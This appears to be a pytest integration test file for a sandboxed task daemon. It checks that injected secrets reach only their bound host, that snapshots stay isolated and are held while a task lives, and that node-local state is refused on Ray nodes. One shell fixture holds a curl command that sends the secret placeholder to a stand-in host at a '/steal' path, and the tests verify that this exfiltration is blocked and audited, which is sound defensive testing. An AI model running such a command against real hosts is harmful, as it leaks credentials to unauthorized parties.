"""Deep tasks with secrets and from snapshots, through the real daemon (issues 13 and 14).

Secrets: each attempt's runner (in its shim) reads the value from the tenant's store
itself; the value reaches the bound TLS host only, never the task store, the state
directory or the daemon's log; exfiltration is blocked and audited as `net.secret`; every
attempt gets a fresh placeholder. Snapshots: each attempt starts from the snapshot's
files, its writes stay its own, and the snapshot is held while the task lives.
"""

from __future__ import annotations

import json
import os

import grpc
import pytest

from corral.runtime.client import ClientError

from ..integration.daemon_harness import collect_exec
from ..secrets.conftest import SECRET_VALUE, cli_env, servers  # noqa: F401 (fixture)
from ..secrets.test_daemon_secrets import _everything_under
from .helpers import QUEUED, RUNNING, SUCCEEDED, wait_done, wait_task

pytestmark = [pytest.mark.root, pytest.mark.timeout(240)]

#: Attempt 1 keeps its placeholder (in the checkpoint directory) and fails; attempt 2
#: calls the bound host and, with the same placeholder, the other host (plain HTTP: the
#: proxy reads it), then writes what it saw to out/.
SECRET_AGENT = r"""
set -u
dir=$CORRAL_CHECKPOINT_DIR
if [ ! -f "$dir/first" ]; then  # (after the runner's first look, before its next)
    sleep 1; printf %s "$API_TOKEN" > "$dir/first"; sleep 1.5; exit 3
fi
mkdir -p /workspace/out
printf '%s %s' "$(cat "$dir/first")" "$API_TOKEN" > /workspace/out/placeholders
curl -sS --max-time 20 -H "Authorization: Bearer $API_TOKEN" \
    "https://api.test/v1?key=$API_TOKEN" > /workspace/out/api 2>&1
curl -sS --max-time 20 -H "Authorization: Bearer $API_TOKEN" http://other.test/steal \
    > /workspace/out/other 2>&1
exit 0
"""


def _result_files(client, task_id: str) -> dict[str, bytes]:
    files: dict[str, bytes] = {}
    for page in client.task_result_pages(task_id):
        for piece in page.files:
            files[piece.path] = files.get(piece.path, b"") + piece.content
    return files


@pytest.fixture
def secret_daemon(servers, tmp_path, monkeypatch, task_daemon):  # noqa: F811
    for key, value in cli_env(servers).items():  # the shims' proxies know the test servers
        monkeypatch.setenv(key, value)
    store = tmp_path / "secrets" / "local"
    store.mkdir(parents=True)
    (store / "API_TOKEN").write_text(SECRET_VALUE + "\n")
    os.chmod(store / "API_TOKEN", 0o600)
    return task_daemon(f'[secrets]\ndir = "{tmp_path / "secrets"}"\n')


def test_a_task_gets_its_secret_only_toward_its_host(secret_daemon, servers):  # noqa: F811
    d = secret_daemon
    c = d.client()
    before = len(servers.received)
    task = c.submit_task(["sh", "-c", SECRET_AGENT], retries=1,
                         secrets=[{"name": "API_TOKEN", "hosts": ["api.test"]}],
                         allow_net=["other.test:80"])
    assert "api.test:443" in c.get_task(task.id).spec.sandbox.allow_net  # implied
    done = wait_done(c, task.id, 120)
    assert (done.state, done.attempt) == (SUCCEEDED, 2), done.reason
    out = _result_files(c, task.id)
    first, second = out["placeholders"].decode().split()
    assert first.startswith("corral_secret_") and second.startswith("corral_secret_")
    assert first != second  # every attempt gets a fresh placeholder
    arrived = b"".join(data for _, data in servers.received[before:])
    assert f"Bearer {SECRET_VALUE}".encode() in arrived  # the bound host got the value
    assert SECRET_VALUE.encode() not in out["api"]  # its echo was scrubbed
    stolen = [data for label, data in servers.received[before:] if b"/steal" in data]
    assert stolen == []  # not one byte of the request to the other host went out
    assert out["other"].startswith(b"corral: egress denied: the request carries a secret's "
                                   b"placeholder\n")  # the proxy's 403
    blocked = [json.loads(r.detail_json) for r in d.records("net.secret")]
    assert [(b["action"], b["secret"], b["task_id"], b["attempt"]) for b in blocked] == [
        ("blocked-exfiltration", "API_TOKEN", task.id, 2)]
    assert d.stop() == 0
    assert SECRET_VALUE.encode() not in _everything_under(d.root / "state")
    assert SECRET_VALUE not in d.log()
    assert all(SECRET_VALUE not in (r.detail_json or "") for r in d.records())


def test_secrets_the_tenant_lacks_are_refused_at_submit_by_name(secret_daemon):
    stranger = secret_daemon.client(tenant="acme")
    with pytest.raises(ClientError) as exc:
        stranger.submit_task(["true"], secrets=[{"name": "API_TOKEN", "hosts": ["api.test"]}])
    assert exc.value.code == grpc.StatusCode.NOT_FOUND
    assert "'API_TOKEN'" in str(exc.value) and SECRET_VALUE not in str(exc.value)
    assert stranger.list_tasks() == []


SNAPSHOT_AGENT = r"""
set -eu
mkdir -p /workspace/out
cat /workspace/seed.txt > /workspace/out/seen
echo task-write > /workspace/seed.txt
echo new > /workspace/new.txt
"""


def test_a_task_from_a_snapshot_sees_its_files_and_leaks_nothing_back(task_daemon):
    d = task_daemon()
    c = d.client()
    parent = c.create_sandbox()
    assert collect_exec(c.exec(parent.id, ["sh", "-c", "echo seed > /workspace/seed.txt"])
                        ).returncode == 0
    snap = c.snapshot(parent.id, name="seeded")
    c.destroy_sandbox(parent.id)
    task = c.submit_task(["sh", "-c", SNAPSHOT_AGENT], snapshot="seeded")  # by name
    assert task.spec.sandbox.snapshot == snap.id
    done = wait_done(c, task.id, 120)
    assert done.state == SUCCEEDED, done.reason
    assert _result_files(c, task.id)["seen"] == b"seed\n"
    fork = c.create_sandbox(snapshot=snap.id)  # the snapshot is as it was
    seen = collect_exec(c.exec(fork.id, ["sh", "-c", "cat /workspace/seed.txt; ls /workspace"]))
    assert seen.stdout == b"seed\nseed.txt\n"
    c.destroy_sandbox(fork.id)
    c.remove_snapshot(snap.id)  # the finished task holds it no more


ONE_SLOT = """
[[nodes]]
name = "solo"
resources = { cpu = 1 }
"""


def test_a_snapshot_is_held_while_its_task_lives(task_daemon):
    """Held by the daemon for the task itself, not only by a running attempt's sandbox:
    here the task waits in the queue behind another, and across a daemon SIGKILL."""
    d = task_daemon(ONE_SLOT)
    c = d.client()
    parent = c.create_sandbox()
    collect_exec(c.exec(parent.id, ["sh", "-c", "echo seed > /workspace/seed.txt"]))
    snap = c.snapshot(parent.id)
    c.destroy_sandbox(parent.id)
    blocker = c.submit_task(["sleep", "600"])
    wait_task(c, blocker.id, lambda t: t.state == RUNNING, 60, "running")
    task = c.submit_task(["sh", "-c", SNAPSHOT_AGENT], snapshot=snap.id)
    assert c.get_task(task.id).state == QUEUED
    for restarted in (False, True):
        if restarted:
            assert d.kill() < 0  # the next daemon holds it again for the unfinished task
            d.start()
            c = d.client()
        with pytest.raises(ClientError) as exc:
            c.remove_snapshot(snap.id)
        assert exc.value.code == grpc.StatusCode.FAILED_PRECONDITION
        assert "in use" in str(exc.value)
    c.cancel_task(task.id)
    c.cancel_task(blocker.id)
    wait_done(c, task.id, 60)
    wait_done(c, blocker.id, 60)
    c.remove_snapshot(snap.id)
    assert c.list_snapshots() == []


def test_node_local_state_is_refused_where_a_ray_node_could_run_the_task(tmp_path):
    """A Ray node's attempt has no safe way to the values, the snapshots or the change
    sets: refused at submit, naming the field and the nodes; a selector that keeps the
    task on local nodes is taken."""
    from corral.runtime.api.tasks import _refuse_local_state_on_ray
    from corral.runtime.tasks.model import TaskSpec
    from corral.runtime.tasks.nodes import Node, NodeConfig
    from corral.sandbox.errors import InvalidSpec
    from corral.sandbox.spec import SandboxSpec, SecretBinding

    nodes = [Node.from_config(NodeConfig("here", labels={"pool": "local"})),
             Node.from_config(NodeConfig("gpu1", labels={"pool": "gpu"}, executor="ray"))]
    cases = [("spec.sandbox.secrets",
              SandboxSpec(secrets=(SecretBinding("API_TOKEN", ("api.test",)),))),
             ("spec.sandbox.snapshot", SandboxSpec(snapshot="snap-0123456789ab")),
             ("spec.sandbox.workspace_dir",
              SandboxSpec(workspace=str(tmp_path), workspace_cow=True))]
    for field, sandbox in cases:
        with pytest.raises(InvalidSpec) as exc:
            _refuse_local_state_on_ray(nodes, TaskSpec(argv=("true",), sandbox=sandbox))
        assert exc.value.field == field and "Ray nodes gpu1" in str(exc.value)
        _refuse_local_state_on_ray(nodes, TaskSpec(argv=("true",), sandbox=sandbox,
                                                   selector={"pool": "local"}))
    _refuse_local_state_on_ray(nodes, TaskSpec(argv=("true",)))  # nothing node-local
